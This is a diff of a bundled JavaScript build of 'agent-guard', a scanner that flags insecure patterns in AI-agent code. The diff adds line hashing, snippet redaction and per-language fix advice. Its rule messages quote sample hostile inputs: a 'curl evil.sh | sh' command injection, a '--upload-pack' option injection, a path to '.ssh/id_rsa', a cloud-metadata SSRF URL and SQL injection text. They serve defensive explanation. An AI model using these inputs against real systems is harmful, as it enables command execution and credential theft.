+  for (const [key, setting] of entries) {
+    if (!FAMILY_KEY.test(key)) continue;
+    const family = key.slice(0, -2);
+    for (const meta of rules2) if (meta.family === family) config.rules[meta.id] = ruleSetting(setting);
+  }
+  for (const [id, setting] of entries) {
+    if (FAMILY_KEY.test(id)) continue;
+    config.rules[id] = { ...config.rules[id], ...ruleSetting(setting) };
   }
   return config;
 }
@@ -27507,6 +27667,87 @@ function fingerprintOf(parts2) {
 function sha256(text) {
   return createHash("sha256").update(text).digest("hex");
 }
+var HASH_BLOCK = 100;
+var HASH_EOF = 65535;
+var TAB = 9;
+var LF = 10;
+var CR = 13;
+var SPACE = 32;
+var TWO_32 = 2 ** 32;
+var FIRST = BigInt.asUintN(64, 37n ** BigInt(HASH_BLOCK));
+var FIRST_HI = Number(FIRST >> 32n);
+var FIRST_LO = Number(FIRST & 0xffffffffn);
+function lineHashes(text) {
+  const window2 = new Array(HASH_BLOCK).fill(0);
+  const lineAt = new Array(HASH_BLOCK).fill(-1);
+  const counts = /* @__PURE__ */ new Map();
+  const out2 = [];
+  let hi = 0;
+  let lo = 0;
+  let index = 0;
+  let line = 0;
+  let lineStart = true;
+  let prevCR = false;
+  for (let i2 = 0; i2 <= text.length + HASH_BLOCK; i2++) {
+    const flushing = i2 > text.length;
+    let c = i2 < text.length ? text.charCodeAt(i2) : flushing ? 0 : HASH_EOF;
+    if (!flushing) {
+      if (c === SPACE || c === TAB || prevCR && c === LF) {
+        prevCR = false;
+        continue;
+      }
+      prevCR = c === CR;
+      if (prevCR) c = LF;
+    }
+    if (lineAt[index] !== -1) {
+      const value = hi === 0 ? lo.toString(16) : hi.toString(16) + lo.toString(16).padStart(8, "0");
+      const n = (counts.get(value) ?? 0) + 1;
+      counts.set(value, n);
+      out2[lineAt[index] - 1] = `${value}:${n}`;
+      lineAt[index] = -1;
+    }
+    if (!flushing && lineStart) {
+      lineStart = false;
+      lineAt[index] = ++line;
+    }
+    if (c === LF) lineStart = true;
+    const begin = window2[index];
+    window2[index] = c;
+    const mulLo = lo * 37 + c;
+    const mulHi = hi * 37 + (mulLo - (mulLo >>> 0)) / TWO_32;
+    const subLo = FIRST_LO * begin;
+    const subHi = FIRST_HI * begin + (subLo - (subLo >>> 0)) / TWO_32;
+    let nextLo = (mulLo >>> 0) - (subLo >>> 0);
+    let borrow = 0;
+    if (nextLo < 0) {
+      nextLo += TWO_32;
+      borrow = 1;
+    }
+    lo = nextLo;
+    hi = mulHi - subHi - borrow >>> 0;
+    index = index === HASH_BLOCK - 1 ? 0 : index + 1;
+  }
+  return out2;
+}
+function derivedLineHash(fingerprint) {
+  return `${sha256(`agent-guard line\0${fingerprint}`).slice(0, 16)}:1`;
+}
+var SNIPPET_MAX = 200;
+function snippetOf(lineText, startColumn, secret) {
+  let text = lineText.replace(/\s+$/, "");
+  if (secret) {
+    const redactor = new Redactor();
+    redactor.add(secret);
+    text = redactor.redact(text);
+    const lines = secret.split(/\r?\n/).map((l) => l.trim());
+    text = text.split(secret.trim()).join(maskSecret(secret));
+    for (const l of lines.slice(1)) if (l.length >= 8) text = text.split(l).join("\u2026");
+  }
+  if (text.length <= SNIPPET_MAX) return text;
+  const start2 = Math.max(0, Math.min(startColumn - 1 - 40, text.length - SNIPPET_MAX));
+  const cut = text.slice(start2, start2 + SNIPPET_MAX);
+  return `${start2 > 0 ? "\u2026" : ""}${cut}${start2 + SNIPPET_MAX < text.length ? "\u2026" : ""}`;
+}
 
 // src/engine/suppress.ts
 var import_picomatch2 = __toESM(require_picomatch2(), 1);
@@ -27548,15 +27789,6 @@ var ConfigIgnores = class {
     return this.entries.some((e) => matches(e.rule, finding.ruleId) && e.match(finding.path));
   }
 };
-
-// src/core/severity.ts
-var SEVERITY_RANK = { error: 3, warning: 2, note: 1 };
-
-// src/core/types.ts
-var FAMILIES = ["secret", "tool-input", "rate-limit", "tool-payload"];
-function docsUrl(ruleId) {
-  return `${DOCS_BASE_URL}/${ruleId}.md`;
-}
 
 // src/engine/engine.ts
 function loadRootAndConfig(paths, rules2, configFile) {
@@ -27649,13 +27881,23 @@ async function mapLimit(items, limit, fn) {
   });
   await Promise.all(workers);
 }
+function fixOf(meta, messageId, path2, data) {
+  const own = meta.fixes?.[messageId];
+  if (own) return formatMessage(own, data);
+  const language = languageOf(path2);
+  const key = language === "python" ? "python" : language === "javascript" || language === "typescript" || language === "tsx" ? "javascript" : null;
+  return key && meta.languageFixes?.[key] || meta.fix;
+}
 function toFinding(meta, severity, path2, report3, lineText) {
   let message = formatMessage(meta.messages[report3.messageId] ?? report3.messageId, report3.data);
+  let fix = fixOf(meta, report3.messageId, report3.path ?? path2, report3.data);
   if (report3.secret) {
     globalRedactor.add(report3.secret);
     message = message.split(report3.secret).join(maskSecret(report3.secret));
+    fix = fix.split(report3.secret).join(maskSecret(report3.secret));
   }
   const content = report3.fingerprintHint ?? (report3.secret ? `secret:${sha256(report3.secret)}` : normalizeLine(lineText));
+  const inThisFile = !report3.path || report3.path === path2;
   return {
     ruleId: meta.id,
     family: meta.family,
@@ -27665,8 +27907,9 @@ function toFinding(meta, severity, path2, report3, lineText) {
     range: report3.range,
     related: report3.related ?? [],
     flow: report3.flow ?? [],
-    fix: meta.fix,
+    fix,
     helpUri: docsUrl(meta.id),
+    ...inThisFile ? { snippet: snippetOf(lineText, report3.range.startColumn, report3.secret) } : {},
     ...report3.properties ? { properties: report3.properties } : {},
     fingerprintContent: content
   };
@@ -27755,6 +27998,7 @@ async function runRules(input, config, rules2, started = performance.now()) {
       }
     }
     await trees.release(file);
+    const hashes = /* @__PURE__ */ new Map();
     for (const f of fileFindings) {
       const home = f.path === file.path ? file : await project.getFile(f.path);
       const inline = home ? inlineSuppressionFor(home, f) : null;
@@ -27768,6 +28012,12 @@ async function runRules(input, config, rules2, started = performance.now()) {
           });
         }
         continue;
+      }
+      if (home) {
+        let lines = hashes.get(home.path);
+        if (!lines) hashes.set(home.path, lines = lineHashes(home.text));
+        f.lineHash = lines[f.range.startLine - 1];
+        f.snippet ??= snippetOf(home.lineText(f.range.startLine), f.range.startColumn);
       }
       pending.push(f);
     }
@@ -27901,7 +28151,24 @@ function applyBaseline(result, baseline, scope = {}) {
 // src/core/define-rule.ts
 var RULE_ID = /^([a-z-]+)\/[a-z0-9]+(?:-[a-z0-9]+)*$/;
 function defineRule(definition2) {
-  const { id, severity, description, fix, messages: messages2, cwe, securitySeverity, precision, defaultOptions, optionsSchema, appliesTo, check, ...extra } = definition2;
+  const {
+    id,
+    severity,
+    description,
+    fix,
+    summary,
+    messages: messages2,
+    fixes,
+    languageFixes,
+    cwe,
+    securitySeverity,
+    precision,
+    defaultOptions,
+    optionsSchema,
+    appliesTo,
+    check,
+    ...extra
+  } = definition2;
   const family = RULE_ID.exec(id)?.[1];
   if (!family || !FAMILIES.includes(family)) throw new Error(`rule id "${id}" is not family/kebab-name with a family of ${FAMILIES.join(", ")}`);
   if (!(securitySeverity >= 0 && securitySeverity <= 10)) throw new Error(`rule ${id}: securitySeverity ${securitySeverity} is outside 0.0\u201310.0`);
@@ -27911,7 +28178,10 @@ function defineRule(definition2) {
     severity,
     description,
     fix,
+    ...summary ? { summary } : {},
     messages: messages2,
+    ...fixes ? { fixes } : {},
+    ...languageFixes ? { languageFixes } : {},
     cwe,
     securitySeverity,
     precision,
@@ -28202,10 +28472,16 @@ var client_without_timeout_default = defineRule({
   severity: "warning",
   description: "OpenAI / Anthropic SDK clients created (or re-optioned with with_options / withOptions) with the request timeout removed (`timeout=None`, `httpx.Timeout(None)`, `timeout: Infinity`), above a configurable maximum, or with retries disabled (`max_retries=0`).",
   fix: "Keep a finite request timeout (the SDK default is 10 minutes) and the default retries with backoff.",
+  summary: "An OpenAI / Anthropic SDK client has its request timeout removed or above the maximum, or its retries disabled.",
   messages: {
-    noTimeout: "{{client}} is created with `{{param}}` removed ({{value}}): a hung request holds the agent forever; pass a finite `{{param}}` (seconds{{unit}})",
-    longTimeout: "{{client}} has `{{param}}` = {{value}}, above the maximum of {{max}} s: lower `{{param}}`",
-    noRetries: "{{client}} is created with `{{param}}=0`: rate-limit (429) and overload responses fail instead of backing off; keep `{{param}}` at 2 or more"
+    noTimeout: "{{client}} is created with `{{param}}` removed ({{value}}): a hung request holds the agent forever.",
+    longTimeout: "{{client}} has `{{param}}` = {{value}}, above the maximum of {{max}} s: a hung request holds the agent that long.",
+    noRetries: "{{client}} is created with `{{param}}=0`: rate-limit (429) and overload responses fail instead of backing off."
+  },
+  fixes: {
+    noTimeout: "Pass a finite `{{param}}` (seconds{{unit}}).",
+    longTimeout: "Lower `{{param}}` to at most {{max}} s.",
+    noRetries: "Keep `{{param}}` at 2 or more (the SDK default retries with backoff)."
   },
   defaultOptions: { maxTimeoutSeconds: 900, flagRetriesDisabled: true },
   optionsSchema: {
@@ -28292,9 +28568,14 @@ var gateway_without_limits_default = defineRule({
   severity: "warning",
   description: "LiteLLM proxy configs whose model_list entries have neither rpm nor tpm while no router or proxy-wide limit is set, and (as a note) CrewAI agents with no max_rpm on the agent or its crew.",
   fix: "Give each model_list entry litellm_params.rpm / tpm, or set a proxy-wide limit (litellm_settings.max_parallel_requests, general_settings.global_max_parallel_requests, router_settings); give CrewAI agents or their Crew max_rpm.",
+  summary: "A LiteLLM proxy model or a CrewAI agent has no requests-per-minute or tokens-per-minute limit.",
   messages: {
-    entry: "LiteLLM model_list entry `{{model}}` has neither `litellm_params.rpm` nor `litellm_params.tpm`, and the proxy sets no global limit: add `rpm:` / `tpm:` under its litellm_params, or `max_parallel_requests` under litellm_settings (or `global_max_parallel_requests` under general_settings)",
-    crewai: "CrewAI Agent{{role}} has no `max_rpm=` and no Crew in the project sets one: add `max_rpm=` to the Agent or its Crew"
+    entry: "LiteLLM model_list entry `{{model}}` has neither `litellm_params.rpm` nor `litellm_params.tpm`, and the proxy sets no global limit: a runaway agent spends the provider quota unchecked.",
+    crewai: "CrewAI Agent{{role}} has no `max_rpm=` and no Crew in the project sets one: its model calls are not rate limited."
+  },
+  fixes: {
+    entry: "Add `rpm:` / `tpm:` under the entry's litellm_params, or `max_parallel_requests` under litellm_settings (or `global_max_parallel_requests` under general_settings).",
+    crewai: "Add `max_rpm=` to the Agent or its Crew."
   },
   defaultOptions: { crewaiMaxRpm: true },
   optionsSchema: {
@@ -28409,7 +28690,7 @@ var ORCHESTRATOR_CONFIG_FIELDS = [
   "result_aggregation_strategy",
   "custom_settings"
 ];
-function suggestion(kw) {
+function suggestion2(kw) {
   if (/^(max_parallel|max_concurren\w*|concurrency|max_workers|parallelism)$/.test(kw)) return "use `max_parallel_tools=`";
   if (/speculat/.test(kw)) return "use `speculation_config=SpeculationConfig(enabled=..., max_speculative_calls=...)`";
   if (/^(timeout|timeout_ms|timeout_s|tool_timeout|tool_timeout_s)$/.test(kw)) return "use `tool_timeout_ms=`";
@@ -28430,9 +28711,14 @@ var orchestrator_without_limits_default = defineRule({
   description: "async-toolformer-orchestrator set up without rate limits: an older-API AsyncOrchestrator(...) with no explicit RateLimitConfig, keyword arguments the constructor silently drops, or newer-API @registry.tool(...) tools with neither calls_per_min nor timeout_s while run() gets no default_timeout_s.",
   fix: "Pass rate_limit_config=RateLimitConfig(...) (older API) or give each @registry.tool(...) calls_per_min= / timeout_s= (newer API), and spell keyword arguments as OrchestratorConfig fields.",
   messages: {
-    noRateLimit: "`{{call}}` gets no explicit RateLimitConfig, so it runs on the library default: pass `rate_limit_config=RateLimitConfig(global_max=..., service_limits=...)`{{where}}",
-    droppedKwarg: "`{{name}}=` is silently dropped by AsyncOrchestrator (OrchestratorConfig has no `{{name}}` field, so the limit it suggests does not exist): {{suggestion}}",
-    toolNoLimits: "tool `{{tool}}` is registered with neither `calls_per_min=` nor `timeout_s=`, and no AsyncOrchestrator.run() passes `default_timeout_s=`: add `calls_per_min=` and `timeout_s=` to `{{decorator}}`"
+    noRateLimit: "`{{call}}` gets no explicit RateLimitConfig, so its tool calls run on the library default limits.",
+    droppedKwarg: "`{{name}}=` is silently dropped by AsyncOrchestrator: OrchestratorConfig has no `{{name}}` field, so the limit it suggests does not exist.",
+    toolNoLimits: "Tool `{{tool}}` is registered with neither `calls_per_min=` nor `timeout_s=`, and no AsyncOrchestrator.run() passes `default_timeout_s=`: its calls are neither rate limited nor timed out."
+  },
+  fixes: {
+    noRateLimit: "Pass `rate_limit_config=RateLimitConfig(global_max=..., service_limits=...)`{{where}}.",
+    droppedKwarg: "Instead of `{{name}}=`: {{suggestion}}.",
+    toolNoLimits: "Add `calls_per_min=` and `timeout_s=` to the tool's `@registry.tool(...)`."
   },
   defaultOptions: { classNames: ["AsyncOrchestrator"], checkDroppedKwargs: true },
   optionsSchema: {
@@ -28524,7 +28810,7 @@ function checkOlder(ctx, call, callee, opts) {
       if (CONSTRUCTOR_PARAMS.includes(name2) || ORCHESTRATOR_CONFIG_FIELDS.includes(name2)) continue;
       ctx.report({
         messageId: "droppedKwarg",
-        data: { name: name2, suggestion: suggestion(name2) },
+        data: { name: name2, suggestion: suggestion2(name2) },
         range: ctx.file.rangeOf(node.startIndex, node.endIndex),
         ...LIMIT_LIKE.test(name2) ? {} : { severity: "note" }
       });
@@ -28763,12 +29049,20 @@ var unbounded_agent_loop_default = defineRule({
   severity: "warning",
   description: "Agent loops whose iteration bound is removed or raised past a configurable maximum (LangChain max_iterations, LangGraph recursion_limit, OpenAI Agents max_turns, CrewAI max_iter, smolagents max_steps, Vercel AI SDK stopWhen/maxSteps) and hand-written `while True` loops that call a model and run tools with no counter or deadline.",
   fix: "Keep a finite bound at or below the configured maximum (or add a wall-clock limit such as max_execution_time), and give hand-written loops a step counter or deadline.",
+  summary: "An agent loop's iteration bound is removed or raised past the maximum, or a hand-written agent loop has none.",
   messages: {
-    removed: "{{framework}}: `{{param}}` removes the iteration bound: set `{{param}}` to a number at most {{max}}",
-    removedNoTime: "{{framework}}: `{{param}}=None` removes the iteration bound and no `max_execution_time` is set: set `{{param}}` (at most {{max}}) or `max_execution_time`",
-    raised: "{{framework}}: `{{param}}` is {{value}}, above the maximum of {{max}}: lower `{{param}}`",
-    stopWhenNoCount: "{{framework}}: `stopWhen` has no step-count condition, so the tool loop runs until the model stops: add `stepCountIs(n)` (n at most {{max}}) to `stopWhen`",
-    whileTrue: "Hand-written agent loop `{{loop}}` calls a model ({{model}}) and runs tools with no step counter or deadline: add a maximum step count (e.g. `for step in range(MAX_STEPS)`) or a deadline check"
+    removed: "{{framework}}: `{{param}}` removes the iteration bound, so a looping agent runs and spends without end.",
+    removedNoTime: "{{framework}}: `{{param}}=None` removes the iteration bound and no `max_execution_time` is set, so a looping agent runs and spends without end.",
+    raised: "{{framework}}: `{{param}}` is {{value}}, above the maximum of {{max}}: a looping agent runs that many rounds before it stops.",
+    stopWhenNoCount: "{{framework}}: `stopWhen` has no step-count condition, so the tool loop runs until the model stops.",
+    whileTrue: "Hand-written agent loop `{{loop}}` calls a model ({{model}}) and runs tools with no step counter or deadline, so it can run and spend without end."
+  },
+  fixes: {
+    removed: "Set `{{param}}` to a number at most {{max}}.",
+    removedNoTime: "Set `{{param}}` (at most {{max}}) or `max_execution_time`.",
+    raised: "Lower `{{param}}` to at most {{max}}.",
+    stopWhenNoCount: "Add `stepCountIs(n)` (n at most {{max}}) to `stopWhen`.",
+    whileTrue: "Add a maximum step count (e.g. `for step in range(MAX_STEPS)`) or a deadline check."
   },
   defaultOptions: { maxIterations: 50, maxRecursionLimit: 100, checkHandWrittenLoops: true },
   optionsSchema: {
@@ -29123,10 +29417,16 @@ var unbounded_tool_concurrency_default = defineRule({
   severity: "warning",
   description: "asyncio.gather / asyncio.wait / TaskGroup loops and Promise.all / allSettled that start one model or tool call per item of a data-built collection with no semaphore, p-limit / p-queue / Bottleneck or bounded pool on the path.",
   fix: "Bound the fan-out: take an asyncio.Semaphore inside the gathered coroutine, or wrap each JS call in p-limit / p-queue / Bottleneck.",
+  summary: "One model or tool call is started per item of a collection at once, with no concurrency bound.",
   messages: {
-    python: "{{fn}} starts one {{kind}} call ({{callee}}) per item of `{{iterable}}` with no concurrency bound: take an asyncio.Semaphore inside the gathered coroutine (`async with sem:`) or use a bounded worker pool",
-    taskGroup: "{{fn}} in a loop over `{{iterable}}` starts one {{kind}} call ({{callee}}) per item with no concurrency bound: take an asyncio.Semaphore inside the task (`async with sem:`) or use a bounded worker pool",
-    js: "{{fn}} starts one {{kind}} call ({{callee}}) per item of `{{iterable}}` at once: wrap each call in a limiter (p-limit `limit(() => \u2026)`, p-queue `queue.add(\u2026)` or Bottleneck `limiter.schedule(\u2026)`)"
+    python: "{{fn}} starts one {{kind}} call ({{callee}}) per item of `{{iterable}}` with no concurrency bound: a large input fires them all at once, into rate limits and cost.",
+    taskGroup: "{{fn}} in a loop over `{{iterable}}` starts one {{kind}} call ({{callee}}) per item with no concurrency bound: a large input fires them all at once, into rate limits and cost.",
+    js: "{{fn}} starts one {{kind}} call ({{callee}}) per item of `{{iterable}}` at once, with no concurrency bound: a large input fires them all, into rate limits and cost."
+  },
+  fixes: {
+    python: "Take an asyncio.Semaphore inside the gathered coroutine (`async with sem:`) or use a bounded worker pool.",
+    taskGroup: "Take an asyncio.Semaphore inside the task (`async with sem:`) or use a bounded worker pool.",
+    js: "Wrap each call in a limiter (p-limit `limit(() => \u2026)`, p-queue `queue.add(\u2026)` or Bottleneck `limiter.schedule(\u2026)`)."
   },
   defaultOptions: { maxFixedFanOut: 10, extraCallPatterns: [] },
   optionsSchema: {
@@ -34944,7 +35244,7 @@ var argument_injection_default = defineSinkRule({
   description: 'A model-controlled tool argument is placed in an argv array (subprocess, spawn/execFile, execa, GitPython repo.git.*) where a leading "-" turns it into an option, with no "--" before it and no check rejecting a leading "-".',
   fix: 'Put "--" before model-supplied arguments, or reject values starting with "-" (or validate them against an allowlist or a strict pattern).',
   messages: {
-    flow: 'Tool "{{tool}}" passes its model-controlled parameter "{{param}}" to {{sink}}: a hostile argument such as "--output=/etc/cron.d/x" or "--upload-pack=sh -c ..." becomes an option of the program and can write files or run commands. Put "--" before model-supplied arguments, or reject values starting with "-" (or validate them against an allowlist or a strict pattern).'
+    flow: 'Tool "{{tool}}" passes model-controlled parameter "{{param}}" to {{sink}}: a value such as "--upload-pack=sh -c ..." becomes an option of the program and can write files or run commands.'
   },
   cwe: [88],
   securitySeverity: 8.1,
@@ -34958,8 +35258,12 @@ var code_injection_default = defineSinkRule({
   severity: "error",
   description: "A model-controlled tool argument is evaluated as code or chooses the code to load (eval, exec, compile, __import__/importlib, new Function, vm.run*, dynamic import()/require()).",
   fix: "Never evaluate tool input: parse data with json / ast.literal_eval, and map names to a fixed table of functions or modules.",
+  languageFixes: {
+    python: "Never evaluate tool input (restricted builtins do not prevent escapes): parse data with json.loads or ast.literal_eval, and map names to a fixed table of functions or modules.",
+    javascript: "Never evaluate tool input (vm is not a sandbox): parse data with JSON.parse, and map names to a fixed table of functions or modules."
+  },
   messages: {
-    flow: 'Tool "{{tool}}" passes its model-controlled parameter "{{param}}" to {{sink}}: a hostile argument runs arbitrary Python/JavaScript in the agent process (restricted builtins do not prevent escapes). Never evaluate tool input: parse data with json / ast.literal_eval, and map names to a fixed table of functions or modules.'
+    flow: 'Tool "{{tool}}" passes model-controlled parameter "{{param}}" to {{sink}}: a hostile value runs arbitrary code in the agent process.'
   },
   cwe: [94],
   securitySeverity: 9.3,
@@ -34973,8 +35277,12 @@ var command_injection_default = defineSinkRule({
   severity: "error",
   description: "A model-controlled tool argument reaches a shell command string or chooses the program to run (os.system, subprocess with shell=True or a string, child_process.exec, spawn with shell: true, execa with shell, zx $).",
   fix: "Run a fixed program with an argv array and no shell, pick the command from an allowlist, or quote with shlex.quote.",
+  languageFixes: {
+    python: "Run a fixed program with an argument list and no shell (subprocess.run([...]) without shell=True), pick the command from an allowlist, or quote with shlex.quote.",
+    javascript: "Run a fixed program with an argument array and no shell (execFile / spawn without shell: true), or pick the command from an allowlist."
+  },
   messages: {
-    flow: 'Tool "{{tool}}" passes its model-controlled parameter "{{param}}" to {{sink}}: a hostile argument such as "x; curl evil.sh | sh" runs arbitrary commands as the agent. Run a fixed program with an argv array and no shell, pick the command from an allowlist, or quote with shlex.quote.'
+    flow: 'Tool "{{tool}}" passes model-controlled parameter "{{param}}" to {{sink}}: a value such as "x; curl evil.sh | sh" runs any command as the agent.'
   },
   cwe: [78],
   securitySeverity: 9.8,
@@ -34988,8 +35296,12 @@ var path_traversal_default = defineSinkRule({
   severity: "error",
   description: "A model-controlled tool argument reaches a file-system call (open, pathlib, os/shutil, fs.*, git.Repo) without a realpath/resolve + containment check.",
   fix: "Resolve the path (os.path.realpath / Path.resolve / path.resolve) and check it stays under the allowed root with a separator-aware test (os.path.commonpath, Path.is_relative_to, startsWith(root + path.sep)) before using it.",
+  languageFixes: {
+    python: "Resolve the path (os.path.realpath or Path.resolve) and check it stays under the allowed root (os.path.commonpath([root, p]) == root, or Path.is_relative_to) before using it.",
+    javascript: "Resolve the path (path.resolve, fs.realpathSync) and check it stays under the allowed root (p.startsWith(root + path.sep)) before using it."
+  },
   messages: {
-    flow: 'Tool "{{tool}}" passes its model-controlled parameter "{{param}}" to {{sink}}: a hostile argument such as "../../.ssh/id_rsa" or an absolute path can read, overwrite or delete any file the agent process can reach. Resolve the path (os.path.realpath / Path.resolve / path.resolve) and check it stays under the allowed root with a separator-aware test (os.path.commonpath, Path.is_relative_to, startsWith(root + path.sep)) before using it.'
+    flow: 'Tool "{{tool}}" passes model-controlled parameter "{{param}}" to {{sink}}: a value such as "../../.ssh/id_rsa" reads, overwrites or deletes any file the agent can reach.'
   },
   cwe: [22],
   securitySeverity: 7.5,
@@ -35121,8 +35433,12 @@ var sql_injection_default = defineSinkRule({
   severity: "error",
   description: "SQL text is built from a model-controlled tool argument (f-string, concatenation, %/format, template literal) and executed (cursor.execute, SQLAlchemy text, db.query/run/all, knex.raw, sequelize.query, prisma.$queryRawUnsafe).",
   fix: 'Pass the value as a bound parameter (execute("... WHERE id = ?", (x,)), query("... $1", [x]), sql`...` tagged templates) instead of building the SQL string.',
+  languageFixes: {
+    python: 'Pass the value as a bound parameter (cursor.execute("... WHERE id = ?", (x,)), %s with psycopg, text("... :id") with parameters in SQLAlchemy) instead of building the SQL string.',
+    javascript: 'Pass the value as a bound parameter (db.query("... WHERE id = $1", [x]), knex bindings, sql`...` tagged templates, prisma.$queryRaw) instead of building the SQL string.'
+  },
   messages: {
-    flow: 'Tool "{{tool}}" passes its model-controlled parameter "{{param}}" to {{sink}}: a hostile argument such as "x\' OR 1=1; DROP TABLE users; --" reads or destroys any data the connection can reach. Pass the value as a bound parameter (execute("... WHERE id = ?", (x,)), query("... $1", [x]), sql`...` tagged templates) instead of building the SQL string.'
+    flow: `Tool "{{tool}}" passes model-controlled parameter "{{param}}" into the SQL text of {{sink}}: a value such as "x' OR 1=1; --" reads or destroys any data the connection can reach.`
   },
   cwe: [89],
   securitySeverity: 8.8,
@@ -35135,9 +35451,13 @@ var ssrf_default = defineSinkRule({
   sinkKind: "ssrf",
   severity: "error",
   description: "A model-controlled tool argument chooses the host of an outgoing HTTP request (requests, httpx, urllib, aiohttp, fetch, axios, got, undici, http.request).",
-  fix: "Fix the scheme and host in code (a literal base URL) or check urlparse(url).hostname / new URL(url).hostname against an allowlist before the request.",
+  fix: "Fix the scheme and host in code (a literal base URL), or check the URL's host against an allowlist before the request.",
+  languageFixes: {
+    python: "Fix the scheme and host in code (a literal base URL), or check urllib.parse.urlparse(url).hostname against an allowlist before the request.",
+    javascript: "Fix the scheme and host in code (a literal base URL), or check new URL(url).hostname against an allowlist before the request."
+  },
   messages: {
-    flow: 'Tool "{{tool}}" passes its model-controlled parameter "{{param}}" to {{sink}}: a hostile argument such as "http://169.254.169.254/latest/meta-data/" makes the agent fetch internal services and cloud credentials. Fix the scheme and host in code (a literal base URL) or check urlparse(url).hostname / new URL(url).hostname against an allowlist before the request.'
+    flow: 'Tool "{{tool}}" passes model-controlled parameter "{{param}}" to {{sink}}: a URL such as "http://169.254.169.254/latest/meta-data/" makes the agent fetch internal services and cloud credentials.'
   },
   cwe: [918],
   securitySeverity: 9.1,
@@ -35151,8 +35471,12 @@ var unsafe_deserialization_default = defineSinkRule({
   severity: "error",
   description: "Model-controlled data reaches an unsafe deserializer (pickle/cPickle/marshal/dill/joblib, yaml.load without SafeLoader, yaml.unsafe_load/full_load, jsonpickle.decode, shelve.open, node-serialize unserialize).",
   fix: "Use a data-only format: json.loads, yaml.safe_load, or a schema-validated parser; never unpickle data a model can supply.",
+  languageFixes: {
+    python: "Use a data-only format (json.loads, yaml.safe_load, or a schema-validated parser); never unpickle data a model can supply.",
+    javascript: "Use a data-only format (JSON.parse, or a schema-validated parser) instead of a deserializer that revives functions (node-serialize)."
+  },
   messages: {
-    flow: 'Tool "{{tool}}" passes its model-controlled parameter "{{param}}" to {{sink}}: a hostile payload runs arbitrary code while it is being deserialized. Use a data-only format: json.loads, yaml.safe_load, or a schema-validated parser; never unpickle data a model can supply.'
+    flow: 'Tool "{{tool}}" passes model-controlled parameter "{{param}}" to {{sink}}: a hostile payload runs arbitrary code while it is deserialized.'
   },
   cwe: [502],
   securitySeverity: 9.8,
@@ -35637,12 +35961,12 @@ var LiteralParser = class {
     }
   }
   string() {
-    const quote = this.next();
+    const quote2 = this.next();
     let out2 = "";
     for (; ; ) {
       if (this.done()) this.fail();
       const c = this.next();
-      if (c === quote) return out2;
+      if (c === quote2) return out2;
       if (c !== "\\") {
         out2 += c;
         continue;
@@ -35938,7 +36262,7 @@ function isPayloadContent(x) {
   return x.decls.length > 0 || x.calls.length > 0 || x.results.length > 0;
 }
 
-// ../../work/main/node_modules/jsonc-parser/lib/esm/impl/scanner.js
+// node_modules/jsonc-parser/lib/esm/impl/scanner.js
 function createScanner(text, ignoreTrivia = false) {
   const len = text.length;
   let pos = 0, value = "", tokenOffset = 0, token = 16, lineNumber = 0, lineStartOffset = 0, tokenLineStartOffset = 0, prevTokenLineStartOffset = 0, scanError = 0;
@@ -36359,7 +36683,7 @@ var CharacterCodes;
   CharacterCodes2[CharacterCodes2["tab"] = 9] = "tab";
 })(CharacterCodes || (CharacterCodes = {}));
 
-// ../../work/main/node_modules/jsonc-parser/lib/esm/impl/string-intern.js
+// node_modules/jsonc-parser/lib/esm/impl/string-intern.js
 var cachedSpaces = new Array(20).fill(0).map((_, index) => {
   return " ".repeat(index);
 });
@@ -36389,7 +36713,7 @@ var cachedBreakLinesWithSpaces = {
   }
 };
 
-// ../../work/main/node_modules/jsonc-parser/lib/esm/impl/parser.js
+// node_modules/jsonc-parser/lib/esm/impl/parser.js
 var ParseOptions;
 (function(ParseOptions2) {
   ParseOptions2.DEFAULT = {
@@ -36854,7 +37178,7 @@ function getNodeType(value) {
   }
 }
 
-// ../../work/main/node_modules/jsonc-parser/lib/esm/main.js
+// node_modules/jsonc-parser/lib/esm/main.js
 var ScanError;
 (function(ScanError2) {
   ScanError2[ScanError2["None"] = 0] = "None";
@@ -37512,74 +37836,69 @@ function plural(n, word) {
   return `${n} ${word}${n === 1 ? "" : "s"}`;
 }
 
-// src/cli/commands/baseline.ts
-var baselineCommand = {
-  name: "baseline",
-  summary: `record today's findings in ${BASELINE_FILE} so scans report only new ones`,
-  usage: `agent-guard baseline [PATH...] [options]
-
-Scans PATH (default: the whole repository) like "agent-guard scan" and writes the fingerprint of every
-finding to ${BASELINE_FILE} at the repository root. Then "agent-guard scan --baseline ${BASELINE_FILE}"
-reports only findings that are not in it, and notes entries that no longer match (run this command again
-to drop them). The file is sorted, has no timestamps or line numbers, and is written atomically: commit it.
-
-  -o, --output FILE     write the baseline to FILE instead
-  -c, --config FILE     use FILE instead of .agent-guard.yml at the root`,
-  options: { output: { type: "string", short: "o" }, config: { type: "string", short: "c" } },
-  allowPositionals: true,
-  async run(args2, io) {
-    const configFile = args2.values.config ? resolve3(io.cwd, args2.values.config) : void 0;
-    const located = loadRootAndConfig(args2.positionals.length ? args2.positionals.map((p) => resolve3(io.cwd, p)) : [io.cwd], ALL_RULES, configFile);
-    const { root, config } = located;
-    const paths = args2.positionals.length ? args2.positionals.map((p) => resolve3(io.cwd, p)) : [root.root];
-    const target = args2.values.output ? resolve3(io.cwd, args2.values.output) : join5(root.root, BASELINE_FILE);
-    let previous = null;
-    if (existsSync3(target)) {
-      try {
-        previous = loadBaseline(target);
-      } catch {
-        previous = null;
-      }
-    }
-    const result = await scan({ paths, rules: ALL_RULES, config });
-    const written = writeBaseline(target, result.findings);
-    const rel = relative2(io.cwd, target);
-    const shown = rel && !isAbsolute2(rel) && rel.length < target.length ? rel : target;
-    let change = "";
-    if (previous) {
-      const before = new Set(previous.entries.map((e) => e.fingerprint));
-      const after = new Set(written.entries.map((e) => e.fingerprint));
-      const added = written.entries.filter((e) => !before.has(e.fingerprint)).length;
-      const dropped = previous.entries.filter((e) => !after.has(e.fingerprint)).length;
-      change = ` (${added} new, ${dropped} dropped)`;
-    }
-    io.out(`agent-guard: wrote ${plural(written.entries.length, "finding")} to ${shown}${change}
-`);
-    if (result.skipped.length) io.out(`agent-guard: ${plural(result.skipped.length, "file")} skipped (run "agent-guard scan" to see why)
-`);
-    return 0;
+// src/app/io.ts
+import { randomBytes as randomBytes2 } from "node:crypto";
+import { renameSync as renameSync2, rmSync as rmSync2, writeFileSync as writeFileSync2 } from "node:fs";
+import { basename as basename3, dirname as dirname4, join as join5, resolve as resolve3 } from "node:path";
+function processIO() {
+  const out2 = writer(process.stdout);
+  const err2 = writer(process.stderr);
+  return {
+    cwd: process.cwd(),
+    env: process.env,
+    stdoutIsTTY: Boolean(process.stdout.isTTY),
+    out: (t) => out2(globalRedactor.redact(t)),
